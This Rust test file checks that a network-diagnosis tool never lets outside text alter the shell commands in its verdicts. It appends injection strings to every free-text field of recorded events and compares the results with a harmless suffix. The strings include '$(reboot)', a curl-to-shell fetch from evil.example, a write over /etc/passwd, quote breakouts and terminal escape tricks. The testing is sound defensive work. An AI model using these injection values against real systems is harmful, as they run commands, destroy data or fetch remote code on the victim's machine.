//! Text from outside reaches no shell and opens no command: whatever stands in names, paths, rules, processes and log
//! lines, the commands of every verdict are those of its template.
//!
//! Real recordings, with something else in every free text. Causes of which there is no recording are made from one by a
//! change of a few fields.

use std::collections::BTreeSet;
use std::path::Path;

use serde_json::{Value, json};
use upstream_trace_core::Engine;
use upstream_trace_core::cause::CAUSES;
use upstream_trace_core::event::Event;
use upstream_trace_core::verdict::{Output, Verdict};
use upstream_trace_read::recording::Reader;

/// Stands at the end of every free text, in turn.
const HOSTILE: &[&str] = &[
    "$(reboot)",
    ";{curl,evil.example}|sh",
    "`reboot`",
    "` & reboot `",
    "a\n reboot",
    "\u{9b}31m",
    "\u{1b}[2J",
    "\u{202e}gnp.exe",
    "'; reboot; '",
    "\"; reboot; \"",
    " reboot > /etc/passwd",
    "\\",
    "~*?[a]{b,c}!#=",
];
/// What harms nobody, at the same places.
const HARMLESS: &str = "x1";

/// Fields in which anything may stand.
const FREE: &[&str] = &[
    "name",
    "unix",
    "interface",
    "chain",
    "table",
    "text",
    "command",
    "process",
    "no_tls",
    "ignored",
    "directive",
    "place",
    "group",
    "unread",
    "chains",
    "parameters",
    "location",
    "file",
];

fn changed(value: &mut Value, key: &str, suffix: &str) {
    match value {
        Value::Object(fields) => {
            for (key, value) in fields {
                changed(value, key, suffix);
            }
        }
        Value::Array(all) => all.iter_mut().for_each(|value| changed(value, key, suffix)),
        Value::String(text) if FREE.contains(&key) => text.push_str(suffix),
        Value::String(text) if key == "upstream" => *text = text.replace(".sock", &format!(".sock{suffix}")),
        Value::String(text) if key == "message" => *text = words(text, suffix),
        _ => {}
    }
}

/// nginx's words with something in them that others chose: the name, or the end of what it quotes.
fn words(message: &str, suffix: &str) -> String {
    for before in [" could not be resolved (", "\" failed (", " while "] {
        if let Some((head, tail)) = message.split_once(before) {
            return format!("{head}{suffix}{before}{tail}");
        }
    }
    message.to_owned()
}

/// The verdicts on a recording, with `edit` done to each event and this at the end of every free text.
fn verdicts(name: &str, edit: fn(&mut Value), suffix: &str) -> Vec<Verdict> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(format!("{name}.zst"));
    let mut engine = Engine::new();
    let mut said = Vec::new();
    for event in Reader::open(&path).expect("a recording") {
        let mut event = serde_json::to_value(event).expect("JSON");
        edit(&mut event);
        if event["event"] != "host" {
            changed(&mut event, "", suffix);
        }
        let event: Event = serde_json::from_value(event).expect("an event");
        said.extend(engine.on(event));
    }
    said.extend(engine.finish());
    let verdict = |output| match output {
        Output::Failure(verdict) | Output::Pending(verdict) => Some(verdict),
        _ => None,
    };
    said.into_iter().filter_map(verdict).collect()
}

/// What a shell obeys in a command: signs outside of quotes, and blanks, which part words.
fn obeyed(command: &str) -> String {
    let mut signs = String::new();
    let (mut single, mut double) = (false, false);
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' if !double => single = !single,
            _ if single => {}
            '"' => double = !double,
            '\\' => drop(chars.next()),
            '$' | '!' => signs.push(c),
            _ if double => {}
            _ if c.is_whitespace() || c.is_control() || "|&;()<>*?[]{}#~=".contains(c) => signs.push(c),
            _ => {}
        }
    }
    assert!(!single && !double, "a quote stays open: {command}");
    signs
}

fn commands(verdict: &Verdict) -> Vec<String> {
    [&verdict.summary, &verdict.fix]
        .into_iter()
        .flat_map(|text| {
            assert!(text.matches('`').count() % 2 == 0, "{}: a command has no end: {text}", verdict.cause);
            text.split('`').skip(1).step_by(2)
        })
        .map(str::to_owned)
        .collect()
}

/// The causes of a recording; fails if a command differs in more than its values.
#[track_caller]
fn check(name: &str, edit: fn(&mut Value)) -> BTreeSet<&'static str> {
    let good = verdicts(name, edit, HARMLESS);
    for hostile in HOSTILE {
        let bad = verdicts(name, edit, hostile);
        let causes = |all: &[Verdict]| all.iter().map(|verdict| verdict.cause).collect::<Vec<_>>();
        assert_eq!(causes(&good), causes(&bad), "{name} with {hostile:?}");
        for (good, bad) in good.iter().zip(&bad) {
            let (wanted, found) = (commands(good), commands(bad));
            assert_eq!(wanted.len(), found.len(), "{name}, {}: {found:?}", bad.cause);
            for (wanted, found) in wanted.iter().zip(&found) {
                assert_eq!(obeyed(wanted), obeyed(found), "{name}, {} with {hostile:?}: {found}", bad.cause);
            }
        }
    }
    good.iter().map(|verdict| verdict.cause).collect()
}

/// Of a line of error.log, other words.
fn says(event: &mut Value, message: &str, action: &str, errno: Option<i32>) {
    if event["event"] == "log" {
        event["message"] = message.into();
        event["action"] = action.into();
        event["errno"] = json!(errno);
        event["level"] = "crit".into();
    }
}

/// Of the socket, other numbers.
fn socket(event: &mut Value, field: &str, value: Value) {
    if event["event"] == "end" || event["event"] == "trouble" {
        event["socket"][field] = value;
    }
}

/// Of drops, another place and reason.
fn drop_by(event: &mut Value, by: &str, reason: &str) {
    let text = event.to_string().replace("NETFILTER_DROP", reason);
    *event = serde_json::from_str(&text).expect("JSON");
    if event["event"] == "drop" {
        event["netfilter"]["by"] = by.into();
    }
    if event["event"] == "rules" {
        event["by"] = "other".into();
    }
}

/// Causes without a recording of their own: one to begin with, and what is changed.
type Made = (&'static str, &'static str, fn(&mut Value));

const MADE: &[Made] = &[
    ("listener-closed", "origins-reset-without-lingering", |event| {
        if event["event"] == "reset-sent" {
            event["function"] = "inet_csk_listen_stop".into();
        }
    }),
    ("nat-failed", "firewall-drop-local-output4", |event| drop_by(event, "nat", "NETFILTER_DROP")),
    ("kernel-drop-local", "firewall-drop-local-output4", |event| drop_by(event, "other", "IP_RPFILTER")),
    ("conntrack-full", "firewall-drop-local-output4", |event| {
        drop_by(event, "conntrack", "NETFILTER_DROP");
        for fact in event["facts"].as_array_mut().into_iter().flatten() {
            if fact["fact"] == "conntrack" {
                fact["count"] = fact["max"].clone();
            }
        }
    }),
    ("slow-client", "reset-by-backend-in-the-body", |event| {
        socket(event, "unread", 65_000.into());
        if let Some(reset) = event["reset"].as_u64() {
            event["last_recv"] = (reset - 5_000_000_000).into();
        }
    }),
    ("worker-stalled", "slow-response-tcp4", |event| socket(event, "unread", 300.into())),
    ("temp-file-failed", "origins-reset-without-lingering", |event| {
        says(
            event,
            "pwritev() \"/t/1\" failed (28: No space left) while reading upstream",
            "reading upstream",
            Some(28),
        );
    }),
    ("truncated-response", "origins-reset-without-lingering", |event| {
        says(
            event,
            "upstream prematurely closed connection while reading upstream",
            "reading upstream",
            None,
        );
    }),
    ("path-lost", "path-lost-request-lost4", |event| {
        // As if another machine had lost the packets.
        if event["event"] == "drop" {
            *event = json!({"event": "tick", "at": event["at"]});
        }
    }),
    ("header-too-big", "origins-reset-without-lingering", |event| {
        let action = "reading response header from upstream";
        says(event, "upstream sent too big header while reading response header from upstream", action, None);
    }),
    ("idle-tunnel", "origins-reset-without-lingering", |event| {
        let message = "upstream timed out (110: Connection timed out) while proxying upgraded connection";
        says(event, message, "proxying upgraded connection", Some(110));
    }),
    ("fd-limit", "origins-reset-without-lingering", |event| {
        says(
            event,
            "socket() failed (24: Too many open files) while connecting to upstream",
            "connecting to upstream",
            Some(24),
        );
    }),
    ("worker-connections", "origins-reset-without-lingering", |event| {
        says(
            event,
            "768 worker_connections are not enough while connecting to upstream",
            "connecting to upstream",
            None,
        );
    }),
    ("address-unavailable", "origins-reset-without-lingering", |event| {
        says(
            event,
            "bind(10.0.0.9) failed (99: x) while connecting to upstream",
            "connecting to upstream",
            Some(99),
        );
    }),
    // Where it was recorded a rule of the same kernel rejected it.
    ("firewall-reject-remote", "firewall-reject-remote-admin4", |event| {
        if event["event"] == "drop" {
            event["reason"] = "TCP_OLD_ACK".into();
        }
    }),
    ("connect-slow", "firewall-drop-remote-tcp4", |event| {
        if event["event"] == "end" {
            event["established"] = (event["seen"].as_u64().unwrap_or_default() - 1_000_000).into();
        }
    }),
];

#[test]
fn no_text_from_outside_becomes_a_command() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let names =
        std::fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").file_name());
    let mut seen = BTreeSet::new();
    for name in names {
        if let Some(name) = name.to_str().and_then(|name| name.strip_suffix(".zst")) {
            seen.extend(check(name, |_| {}));
        }
    }
    for (cause, name, edit) in MADE {
        let found = check(name, *edit);
        assert!(found.contains(cause), "{cause} does not come of {name}: {found:?}");
        seen.extend(found);
    }
    let missing: Vec<_> = CAUSES.iter().map(|cause| cause.id).filter(|id| !seen.contains(id)).collect();
    assert!(missing.is_empty(), "not checked: {missing:?}");
}
